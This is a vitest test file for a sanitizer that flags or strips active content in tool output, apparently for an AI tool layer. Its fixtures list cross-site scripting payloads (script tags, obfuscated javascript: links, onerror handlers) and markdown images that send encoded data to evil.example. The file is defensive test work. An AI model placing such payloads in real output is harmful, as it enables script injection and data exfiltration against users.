import { describe, expect, it } from 'vitest'
import { findingsOf } from '../../src/policy/sanitize/findings-of.js'
import type { Content } from '../../src/tools/content.js'
import { clean, cleaned, ofText } from '../policy/sanitize/cleaned.js'

const strip = { rules: { active: 'strip' } } as const
const kindsIn = async (text: string) =>
  findingsOf(await cleaned(ofText(text))).flatMap(({ rule, kinds }) => (rule === 'active' ? (kinds ?? []) : []))
const data = 'c2VjcmV0IHRoaW5ncyB0aGF0IHdlcmUgc2FpZA'

const active: [string, string][] = [
  ['script', 'a <script>alert(1)</script> b'],
  ['script', '<SCRIPT src="https://evil.example/x.js">'],
  ['frame', '<iframe src="https://evil.example">'],
  ['frame', '<object data="x.swf"></object>'],
  ['script-link', '[click](javascript:alert(1))'],
  ['script-link', '[click]: javascript:alert(1)'],
  ['script-link', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['script-link', "<a href=' java\tscript:alert(1)'>x</a>"],
  ['script-link', '<a href="javascript&#58;alert(1)">x</a>'],
  ['data-link', '[click](data:text/html;base64,PHNjcmlwdD4=)'],
  ['data-link', '<a href="data:image/svg+xml,x">x</a>'],
  ['handler', '<img src=x onerror=alert(1)>'],
  ['handler', '<body\nonload = "x()">'],
  ['handler', '<a title="a"onmouseover="x()">'],
  ['svg-script', '<svg width="1"><script >x</script></svg>'],
  ['svg-script', '<svg><g><foreignObject width="1">'],
  ['image-with-data', `![pixel](https://evil.example/p.png?d=${data})`],
  ['image-with-data', `<img alt="" src="https://evil.example/p?q=${data}">`],
]

describe('active content', () => {
  it.each(active)('SECS-005 is reported: %s in %j', async (kind, text) => {
    expect(await kindsIn(text)).toContain(kind)
    expect((await cleaned(ofText(text))).content).toEqual(ofText(text).content)
  })

  it.each(active)('SECS-004 is removed if configured: %s in %j', async (kind, text) => {
    const once = await clean(text, strip)
    expect(once).toContain(`[active content removed: ${kind}]`)
    expect(await kindsIn(once)).toEqual([])
  })

  it.each([
    'A description, a script: read it on your own.',
    'javascript: a language. See data:text/html in the standard.',
    'onclick = handler; button.onload = x',
    '![badge](https://img.example/badge.svg?style=flat-square&logo=npm)',
    '[docs](https://a.example/search?q=how+to+do+this+and+that+in+one+step)',
    'List<Scripted> and <scripts> and <iframes>',
    'if (a < b && once == 1) on = 2',
    '<p>plain <b>markup</b> <img src="/logo.png?v=2"></p>',
  ])('is not found in %j', async (text) => {
    expect(await kindsIn(text)).toEqual([])
  })

  it('SECS-005 is reported in embedded resources and in structured values', async () => {
    const resource = {
      type: 'resource',
      resource: { uri: 'ui://a', mimeType: 'text/html', text: '<script>x()</script>' },
    } as Content
    const result = await cleaned({ content: [resource], structured: { html: '<a onclick="x()">' }, isError: false })
    expect(findingsOf(result)).toEqual([{ rule: 'active', action: 'flag', count: 2, kinds: ['script', 'handler'] }])
  })

  it('SECS-004 SECC-006 is found even with hidden characters inside', async () => {
    expect(await clean('<scr\u200bipt>x', strip)).toBe('[active content removed: script]x')
  })
})
